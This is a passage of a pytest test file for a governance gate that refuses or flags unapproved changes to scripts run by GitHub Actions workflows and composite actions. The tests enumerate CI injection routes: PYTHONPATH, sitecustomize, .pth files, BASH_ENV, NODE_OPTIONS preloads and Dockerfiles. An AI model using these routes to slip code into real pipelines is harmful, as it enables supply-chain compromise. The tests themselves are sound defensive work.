    assert since.ok and since.notes == [_history_note(1, last)]  # the commit after the trusted one only
    assert pushed.returncode == 0, pushed.stderr
    assert f"governance: note: {_history_note(1, merged)}" in " ".join(pushed.stderr.split()), pushed.stderr


def test_with_signatures_off_an_audit_since_a_commit_notes_only_the_commits_after_it(
    unjudging: Governed, monkeypatch: pytest.MonkeyPatch
) -> None:
    """With signatures: off the audit since a commit replays the whole history (records older than it
    count), but notes only the commits after it, as it judges only those: a pull request's gate must not
    say every unjudged change of the history again, on every run."""
    monkeypatch.setenv("GOVERNANCE_TODAY", "2026-12-01")
    config = (unjudging.path / "governance.yml").read_text(encoding="utf-8")
    without = "".join(line for line in config.splitlines(keepends=True) if not line.startswith("signatures:"))
    unjudging.repo.write("governance.yml", without + "signatures: false\n")
    unjudging.repo.write("scripts/publish.sh", EVIL)
    early = unjudging.repo.commit("Speed up publishing, signatures off")  # refused: governance.yml changed
    unjudging.repo.write("README.md", "Our policies\n")
    trusted = unjudging.repo.commit("Say what this repository is")
    unjudging.repo.write("scripts/publish.sh", EVIL + "echo twice\n")
    last = unjudging.repo.commit("Publish twice")

    audit = run_audit(unjudging.path, "HEAD", today=TODAY, works=False)
    since = run_audit(unjudging.path, "HEAD", today=TODAY, since=trusted, works=False)
    quiet = run_audit(unjudging.path, trusted, today=TODAY, since=early, works=False)

    assert audit.notes == [_history_note(2, last)]
    assert since.notes == [_history_note(1, last)]  # the commit after the trusted one only
    assert quiet.notes == []  # the commit after `early` changed no script


def test_with_the_rule_off_a_change_no_run_step_names_says_nothing(unjudging: Governed) -> None:
    unjudging.branch("readme")
    unjudging.repo.write("README.md", "Our policies\n")
    unjudging.repo.write("scripts/other.sh", SCRIPT)  # beside the script the workflow runs, not named
    unjudging.repo.commit("Say what this repository is")

    code, output = _check(unjudging, "readme")
    audit = run_audit(unjudging.path, "readme", today=TODAY, works=False)

    assert code == 0, output
    assert "note:" not in output
    assert audit.ok and audit.notes == []


def test_with_the_rule_on_the_change_is_refused_and_not_noted(adopted: Governed) -> None:
    _runs(adopted, "./scripts/publish.sh", {"scripts/publish.sh": SCRIPT})
    adopted.branch("faster")
    adopted.repo.write("scripts/publish.sh", EVIL)
    adopted.repo.commit("Speed up publishing")

    report = run_check(adopted.path, "main", "faster", today=TODAY)
    audit = run_audit(adopted.path, "faster", today=TODAY, works=False)

    assert report.violations == [_run_refusal("scripts/publish.sh", "scripts/publish.sh")]
    assert report.notes == [] and audit.notes == []


def test_the_note_of_an_unjudged_script_change_is_said_in_japanese(
    unjudging: Governed, monkeypatch: pytest.MonkeyPatch
) -> None:
    unjudging.branch("faster")
    unjudging.repo.write("scripts/publish.sh", EVIL)
    unjudging.repo.commit("Speed up publishing")
    with _japanese(monkeypatch):
        code, output = _check(unjudging, "faster")
        audit = CliRunner().invoke(
            main, ["audit", "faster", "--root", str(unjudging.path)], env={"GOVERNANCE_TODAY": "2026-12-01"}
        )

    assert code == 0, output
    assert (
        f"注: scripts/publish.sh: {WORKFLOW}:13 は `run:` ステップで scripts/publish.sh を実行しますが、この変更は"
        "どの決議でも判定されていません" in output
    ), output
    assert audit.exit_code == 0, audit.output
    assert "注: scripts/publish.sh: 1 件のコミットが決議なしにこれを変更しました" in audit.output, (
        audit.output
    )


def test_the_notes_are_notices_on_github_and_in_the_json_reports(unjudging: Governed) -> None:
    unjudging.branch("faster")
    unjudging.repo.write("scripts/publish.sh", EVIL)
    last = unjudging.repo.commit("Speed up publishing")

    def run(*arguments: str) -> str:
        done = CliRunner().invoke(main, [*arguments, "--root", str(unjudging.path)], env=TODAY_ENV)
        assert done.exit_code == 0, done.output
        return done.output

    check = run("check", "--base", "main", "--head", "faster", "--format", "github")
    audit = run("audit", "faster", "--format", "github")
    check_json = json.loads(run("check", "--base", "main", "--head", "faster", "--format", "json"))
    audit_json = json.loads(run("audit", "faster", "--format", "json"))

    assert check.splitlines()[0] == f"::notice::{_note()}"
    assert audit.splitlines()[0] == f"::notice::{_history_note(1, last)}"
    assert check_json["notes"] == [_note()] and check_json["ok"]
    assert audit_json["notes"] == [_history_note(1, last)] and audit_json["ok"]


def test_paths_joined_to_working_directories_are_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    """Aliases may give one script of many paths as many working directories: past the bound the file is
    a finding (it cannot be read), never a walk of paths times folders."""
    monkeypatch.setattr("governance.gate.local_actions._JOINED", 10)
    steps = "".join(f"      - {{run: *s, working-directory: d{i}}}\n" for i in range(3))
    text = "x: &s ./a.sh ./b.sh ./c.sh ./d.sh\njobs:\n  j:\n    steps:\n" + steps
    with pytest.raises(GovernanceError, match="more than 10 paths in their working directories"):
        run_uses(load(text, WORKFLOW, aliases=True), WORKFLOW)
    text = text.replace("  - {run: *s, working-directory: d2}\n", "")
    assert len(run_uses(load(text, WORKFLOW, aliases=True), WORKFLOW)) == 4 + 8


COMPOSITE = """name: deploy
runs:
  using: composite
  steps:
    - run: ./scripts/deploy.sh
      shell: bash
"""


def test_what_an_action_outside_github_runs_is_judged_as_one_under_it(adopted: Governed) -> None:
    """A composite action in a folder governed_paths covers (tools/deploy/*) runs its steps as one under
    .github/ does: its `run:` names scripts/deploy.sh and a `uses:` names a further local action. Only the
    actions under .github/ were read, so a change to that script, or an ungoverned action it names, passed."""
    config = (adopted.path / "governance.yml").read_text(encoding="utf-8")
    governing = config + "governed_paths:\n  - mkdocs.yml\n  - site/*\n  - tools/deploy/*\n"
    _propose(
        adopted, "govern", "BD-2026-211", {"governance.yml": governing}, approve=(), amend=("governance.yml",)
    )
    adopted.merge("govern")
    deploy = {WORKFLOW: _workflow("./tools/deploy"), "tools/deploy/action.yml": COMPOSITE}
    _propose(adopted, "deploy", "BD-2026-212", {**deploy, "scripts/deploy.sh": SCRIPT}, approve=tuple(deploy))
    assert run_check(adopted.path, "main", "deploy", today=TODAY).ok
    adopted.merge("deploy")

    adopted.branch("faster")
    adopted.repo.write("scripts/deploy.sh", EVIL)
    adopted.repo.commit("Speed up deploying")
    report = run_check(adopted.path, "main", "faster", today=TODAY)
    audit = run_audit(adopted.path, "faster", today=TODAY, works=False)
    refusal = _run_refusal("scripts/deploy.sh", "scripts/deploy.sh", 5).replace(
        WORKFLOW, "tools/deploy/action.yml"
    )
    assert report.violations == [refusal]
    assert audit.bad_commits[-1].violations == [refusal]

    adopted.repo.git("checkout", "-q", "main")
    nested = COMPOSITE + "    - uses: ./tools/other\n"
    _propose(
        adopted,
        "nested",
        "BD-2026-213",
        {"tools/deploy/action.yml": nested, "tools/other/action.yml": ACTION},
        approve=(),
        amend=("tools/deploy/action.yml",),
    )
    report = run_check(adopted.path, "main", "nested", today=TODAY)
    assert report.violations == [
        "tools/deploy/action.yml:7: it runs the local action ./tools/other, whose folder tools/other is not governed, "
        "so a pull request could change what the workflow runs without a decision; move the action under "
        ".github/actions/, or add a pattern that covers its whole folder (tools/other/*) to governed_paths in "
        "governance.yml"
    ]


@pytest.mark.parametrize(
    ("workflows", "size", "actions", "action_size", "said", "japanese"),
    [
        (
            999,
            20,
            2,
            20,
            "it is one of more than 1,000 workflow and action files, counting the action.yml of each local "
            "action outside .github/ (the limit)",
            "action.yml も数えると、ワークフローとアクションのファイルが 1,000 個（上限）を超えています",
        ),
        (
            4,
            4_000_000,
            1,
            1_000_000,
            "with it the workflow and action files, counting the action.yml of each local action outside "
            ".github/, hold more than 16 MiB (the limit)",
            "action.yml も合わせて、ワークフローとアクションのファイルが 16 MiB（上限）を超えます",
        ),
    ],
    ids=["files", "bytes"],
)
def test_actions_outside_github_count_in_the_limits_together(
    adopted: Governed,
    monkeypatch: pytest.MonkeyPatch,
    workflows: int,
    size: int,
    actions: int,
    action_size: int,
    said: str,
    japanese: str,
) -> None:
    """The action.yml of a local action outside .github/ is read as the workflows are, so it counts in
    their 1,000 files and 16 MiB together: each was bounded (4 MiB), but a hundred of them were not, and
    stalled the check as a hundred workflows did. The first past the limit is said, the rest unread."""
    adopted.branch("many")
    uses = "".join(f"      - uses: ./tools/a{index}\n" for index in range(actions))
    for index in range(workflows):
        body = "" if index else "jobs:\n  run:\n    runs-on: ubuntu-24.04\n    steps:\n" + uses
        adopted.repo.write(f".github/workflows/w{index:04}.yml", f"on: push\n{body}#" + "x" * size + "\n")
    for index in range(actions):
        adopted.repo.write(f"tools/a{index}/action.yml", ACTION + "#" + "x" * action_size + "\n")
    adopted.repo.commit("Many workflows and actions")

    report = run_check(adopted.path, "main", "many", today=TODAY)

    first = f"tools/a{actions - 1}/action.yml"
    unread = [finding for finding in report.violations if "it cannot be read" in finding]
    assert unread == [
        f"{first}: it cannot be read, so the gate cannot tell which local actions it runs: {said}; correct it"
    ]
    with _japanese(monkeypatch):
        code, output = _check(adopted, "many")
    assert code == 1 and f"{first}: " in output and japanese in output, output


@pytest.mark.parametrize(
    ("command", "env", "path", "named"),
    [
        # Python finds the module in PYTHONPATH's folders first; the workflow's env sets it too
        ("PYTHONPATH=src python3 -m publish", "", "src/publish.py", "**/publish.*"),
        ("python3 -m publish", "PYTHONPATH: src", "src/publish.py", "**/publish.*"),
        ("python3 build.py", "PYTHONPATH: src", "src/sitecustomize.py", "**/sitecustomize.*"),
        # a program found through a PATH extended to a folder of the checkout
        ('export PATH="$(pwd)/bin:$PATH"\n          publish --fast', "", "bin/publish", "**/publish"),
        # a virtual environment of the checkout runs its site-packages' .pth files at every start
        (".venv/bin/python build.py", "", ".venv/lib/python3.11/site-packages/x.pth", ".venv/lib"),
        # a file bash sources at every start, a module node preloads
        ("bash -c 'echo hi'", "BASH_ENV: ./scripts/env.sh", "scripts/env.sh", "scripts/env.sh"),
        ("node build.js", "NODE_OPTIONS: --require ./hook.js", "hook.js", "hook.js"),
        # a Dockerfile's RUN lines run on the runner's docker
        ("docker build -t app:1 web", "", "web/Dockerfile", "web/Dockerfile"),
    ],
    ids=[
        "pythonpath",
        "pythonpath-env",
        "sitecustomize",
        "github-path",
        "venv-pth",
        "bash-env",
        "node-options",
        "dockerfile",
    ],
)
def test_a_change_to_a_file_the_step_finds_by_its_environment_is_refused(
    adopted: Governed, command: str, env: str, path: str, named: str
) -> None:
    """What a step's environment makes it run or read: each was read from the root only, or not at all, so
    a change to it passed."""
    workflow = RUNS.format(command=command)
    if env:
        workflow = workflow.replace("permissions:", f"env:\n  {env}\npermissions:")

    report = _changed_after(adopted, workflow, path)

    assert len(report.violations) == 1, report.violations
    said = report.violations[0]
    assert said.startswith(f"{path}: {WORKFLOW}:") and (
        f" ({named}: " in said or f" runs {named} " in said
    ), said


@pytest.mark.parametrize(
    ("folder", "run"),
    [
        ("${{ inputs.folder }}", "./build.sh"),
        ("../policies/web", "./build.sh"),
        # the runner's temporary folder, outside the checkout: back into it by a relative cd
        ("${{ runner.temp }}", "cd ../policies/policies/web && ./build.sh"),
    ],
)
def test_a_script_run_from_a_working_directory_known_only_at_run_time_is_refused(
    adopted: Governed, folder: str, run: str
) -> None:
    """A working directory that is an expression, or leaves the checkout (from where a path may lead back
    into it), was read as the root: web/build.sh changed passed when the step ran ./build.sh there."""
    workflow = STEP_FOLDER.replace("working-directory: web", f'working-directory: "{folder}"')
    workflow = workflow.replace("- run: ./build.sh\n", f"- run: {run}\n")

    report = _changed_after(adopted, workflow, "web/build.sh")

    assert report.violations == [_may_run_refusal("web/build.sh", "**/build.sh")]


def test_a_change_to_a_file_an_action_s_input_names_is_refused(adopted: Governed) -> None:
    """An action's input may name a file the action runs (`script: require('./scripts/x.js')`)."""
    workflow = RUNS.format(command="echo hi") + (
        "      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7.0.1\n"
        "        with:\n"
        "          script: require('./scripts/notify.js')(github)\n"
    )

    report = _changed_after(adopted, workflow, "scripts/notify.js")

    assert report.violations == [_run_refusal("scripts/notify.js", "scripts/notify.js", 17)]


def test_an_action_s_input_is_read_as_words_not_commands() -> None:
    """A release's notes starting a line with `${{ }}` (or after a `;`) are data: no command GitHub writes
    in, so not every file of the repository."""
    text = (
        "jobs:\n  j:\n    steps:\n      - uses: softprops/action-gh-release@v2\n        with:\n"
        "          body: |\n            ${{ steps.log.outputs.text }}\n            see ./CHANGES.md; ${{ x }}\n"
    )
    runs = run_uses(load(text, WORKFLOW, aliases=True), WORKFLOW)

    assert [use.path for use in runs] == ["CHANGES.md"]
